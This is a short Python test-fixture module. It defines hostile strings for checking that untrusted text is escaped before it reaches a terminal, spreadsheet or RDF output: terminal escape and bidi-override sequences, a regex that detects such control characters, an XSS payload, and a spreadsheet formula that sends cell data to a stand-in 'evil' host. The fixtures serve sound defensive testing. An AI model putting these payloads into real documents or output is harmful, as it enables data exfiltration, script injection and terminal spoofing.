"""What a stranger would write, and how it is recognised when it comes out."""

from __future__ import annotations

import re

LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
COMMANDS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
"""Written anew, not imported: what a terminal would obey."""

TITLE, CLEAR, C1, TURNED = "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x9b31m", "\u202e"
NASTY = f"red {TITLE}{CLEAR}{C1}{TURNED} fish"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'
MARKUP = "<img src=x onerror=alert(1)> [red]markup[/red]"


def turtle(text: str) -> str:
    return '"' + "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04X}" for c in text) + '"'
